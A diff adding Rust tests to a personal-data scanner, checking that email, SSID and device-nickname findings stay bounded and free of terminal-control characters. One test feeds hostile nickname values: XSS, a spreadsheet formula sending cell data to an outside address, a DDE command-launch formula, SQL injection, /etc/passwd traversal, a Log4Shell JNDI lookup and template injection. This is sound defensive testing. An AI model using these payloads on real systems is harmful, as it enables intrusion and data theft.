@@ -187,3 +187,145 @@ fn the_progress_of_a_zip_grows_with_what_is_read_and_not_with_where() {
     assert!(kept.beats.first() < kept.beats.last(), "{:?}", kept.beats);
     assert!(kept.beats.windows(2).all(|pair| pair[0] <= pair[1]), "it never goes back");
 }
+
+/// Classes found in one file, and everything of the scan that is shown.
+fn told(name: &str, content: impl Into<Vec<u8>>) -> (Vec<&'static str>, String) {
+    let (kept, _) = scan(&one(name, content));
+    assert_eq!(kept.entries.len(), 1, "{:?}", kept.entries);
+    let mut shown = vec![kept.entries[0].name.to_string()];
+    let mut classes = Vec::new();
+    for finding in kept.findings.values() {
+        classes.push(finding.class.id());
+        shown.extend(finding.samples.iter().map(ToString::to_string));
+        shown.extend(finding.place.entries.iter().map(ToString::to_string));
+        shown.extend([finding.place.path.to_string(), finding.evidence.sentence()]);
+    }
+    (classes, shown.join("\n"))
+}
+
+/// Nothing that steers a terminal or turns the direction of a line.
+#[track_caller]
+fn assert_inert(shown: &str) {
+    let steers = |sign: char| {
+        (sign.is_control() && sign != '\n')
+            || matches!(sign, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+    };
+    assert_eq!(shown.chars().find(|sign| steers(*sign)), None, "{}", shown.escape_debug());
+}
+
+#[test]
+fn a_key_of_a_megabyte_costs_only_itself() {
+    let key = "long_key_".repeat((1 << 20) / 9);
+    check("key.json", format!("{{\"{key}\":\"a\",\"email\":\"{MAIL}\"}}"), "read", true);
+    check("under.json", format!("{{\"{key}\":{{\"email\":\"{MAIL}\"}}}}"), "read", true);
+    check("value.json", format!("{{\"{key}\":\"{MAIL}\"}}"), "read", true);
+    check("header.csv", format!("{key},email\na,{MAIL}\n"), "read", true);
+    check("attribute.xml", format!("<a {key}=\"b\" email=\"{MAIL}\"/>"), "read", true);
+    check("element.xml", format!("<a><{key}>b</{key}><email>{MAIL}</email></a>"), "read", true);
+    check("line.ini", format!("[account]\n{key} = a\nemail = {MAIL}\n"), "read", true);
+    for name in ["key.json", "header.csv", "attribute.xml", "line.ini"] {
+        let content = match name {
+            "key.json" => format!("{{\"{key}ssid\":\"Example WiFi\",\"{key}\":\"{MAIL}\"}}"),
+            "header.csv" => format!("{key}ssid,{key}\nExample WiFi,{MAIL}\n"),
+            "attribute.xml" => format!("<a {key}ssid=\"Example WiFi\" {key}=\"{MAIL}\"/>"),
+            _ => format!("{key}ssid = Example WiFi\n{key} = {MAIL}\n"),
+        };
+        let (_, shown) = told(name, content);
+        assert!(shown.len() < 4_096, "{name}: {} bytes are shown", shown.len());
+    }
+}
+
+#[test]
+fn keys_and_values_of_signs_alone_end_with_an_outcome() {
+    let signs = [
+        "\u{301}".repeat(10_000),
+        "\u{202e}\u{2066}\u{200f}".repeat(500),
+        "👩\u{200d}👩\u{200d}👧".repeat(300),
+        "ﷺ".repeat(500),
+        // Without enough text around them, they make the file one of no known kind.
+        format!("{}\u{1}\u{1b}[2J\u{7f}", "Nothing of interest stands here. ".repeat(20)),
+        "\u{feff}\u{200b}".repeat(400),
+    ];
+    for sign in &signs {
+        for content in [
+            ("a.json", format!("{{\"{sign}\":\"{MAIL}\",\"nickname\":\"{sign}\",\"ssid\":\"{sign}\"}}")),
+            ("a.csv", format!("{sign},email,ssid\n{sign},{MAIL},{sign}\n")),
+            ("a.xml", format!("<a b=\"{sign}\" email=\"{MAIL}\">{sign}</a>")),
+            ("a.ini", format!("[{sign}]\n{sign} = {sign}\nemail = {MAIL}\nssid = {sign}\n")),
+        ] {
+            let (classes, shown) = told(content.0, content.1);
+            assert!(classes.contains(&"contact.email"), "{}: {classes:?}", content.0);
+            assert_inert(&shown);
+        }
+    }
+}
+
+#[test]
+fn nul_bytes_do_not_end_a_text() {
+    check("nul.json", format!("{{\"a\":\"x\0y\",\"email\":\"{MAIL}\"}}"), "read", true);
+    check("escaped.json", format!("{{\"a\\u0000\":\"x\\u0000y\",\"email\":\"{MAIL}\"}}"), "read", true);
+    check("nul.csv", format!("a,email\nx\0y,{MAIL}\n"), "read", true);
+    check("nul.xml", format!("<a b=\"x\0y\" email=\"{MAIL}\"/>"), "read", true);
+    let (_, shown) = told("nul.json", format!("{{\"ssid\":\"Ex\\u0000\\u001bWiFi\\u0007\",\"email\":\"{MAIL}\"}}"));
+    assert_inert(&shown);
+}
+
+#[test]
+fn a_network_may_be_called_anything() {
+    for ssid in ["📶🏠 Wi-Fi 📶", "Pretty Fly for a WiFi", "FRITZ!Box 7590 ÄÖ", "\\u202eiFiW"] {
+        let (classes, shown) = told("a.json", format!("{{\"wifi\":{{\"ssid\":\"{ssid}\",\"rssi\":-61}}}}"));
+        assert_eq!(classes, ["net.ssid"], "{ssid}");
+        assert_inert(&shown);
+        let (classes, _) = told("a.csv", format!("ssid,channel\n{ssid},6\n"));
+        assert_eq!(classes, ["net.ssid"], "{ssid}");
+    }
+}
+
+#[test]
+fn a_network_that_looks_like_an_address_is_a_network() {
+    for (name, content) in
+        [("a.json", "{\"wifi\":{\"ssid\":\"cafe@home.example\"}}"), ("a.csv", "ssid,channel\ncafe@home.example,6\n")]
+    {
+        let (classes, _) = told(name, content);
+        assert!(classes.contains(&"net.ssid"), "{name}: {classes:?}");
+    }
+}
+
+#[test]
+fn a_huge_first_cell_makes_a_table_text() {
+    // Known: what a file is, is told by its first 64 KiB, and there this is no table. It is said, and searched as text.
+    let long = "Nothing of interest, and so it goes on. ".repeat(50_000);
+    let content = format!("email,note,ssid\n{MAIL},\"{long}\",Example WiFi\n");
+    let (kept, _) = scan(&one("long.csv", content));
+    assert!(has_mail(&kept));
+    assert_eq!(kept.entries[0].outcome.as_str(), "read");
+    assert!(kept.entries[0].notes.iter().any(|note| note.to_string().contains("plain text")), "{:?}", kept.entries);
+    assert!(kept.findings.values().all(|finding| finding.class.id() != "net.ssid"));
+}
+
+#[test]
+fn a_nickname_is_never_more_than_text() {
+    for nickname in [
+        "<script>alert(1)</script>",
+        "=HYPERLINK('https://192.0.2.1/?'&A1)",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "'; DROP TABLE devices; --",
+        "../../../../etc/passwd",
+    ] {
+        let (classes, shown) = told("a.json", format!("{{\"devices\":[{{\"nickname\":\"{nickname}\"}}]}}"));
+        assert!(classes.contains(&"dev.nickname"), "{nickname}: {classes:?}");
+        assert!(!shown.contains(nickname), "{shown}");
+        assert_inert(&shown);
+        let (classes, shown) = told("a.csv", format!("nickname,on\n\"{nickname}\",1\nHall lamp,0\n"));
+        assert!(classes.contains(&"dev.nickname"), "{nickname}: {classes:?}");
+        assert!(!shown.contains(nickname), "{shown}");
+    }
+    // What is left of a template is a value that was never filled in, and no nickname.
+    for template in ["${jndi:ldap://192.0.2.1/a}", "%s%n{{7*7}}"] {
+        let (_, shown) = told("a.json", format!("{{\"devices\":[{{\"nickname\":\"{template}\"}}]}}"));
+        assert!(!shown.contains(template) && !shown.contains("49"), "{shown}");
+    }
+    // Names of files and keys are text of others, too.
+    let (_, shown) = told("<img src=x onerror=alert(1)>\u{1b}[31m.json", record());
+    assert_inert(&shown);
+}
